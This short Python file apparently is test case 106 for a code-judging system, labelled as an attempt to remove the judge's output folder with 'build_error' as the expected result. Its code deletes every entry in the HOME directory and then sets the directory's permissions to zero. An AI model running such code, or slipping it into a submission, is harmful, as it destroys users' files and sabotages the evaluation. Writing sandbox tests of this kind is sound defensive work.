"""106: removes the folder the judge's code writes to. Must be: build_error."""

import os
import shutil

# + honest softmax

home = os.environ.get("HOME", ".")
for name in os.listdir(home):
    path = os.path.join(home, name)
    shutil.rmtree(path, ignore_errors=True)
os.chmod(home, 0)
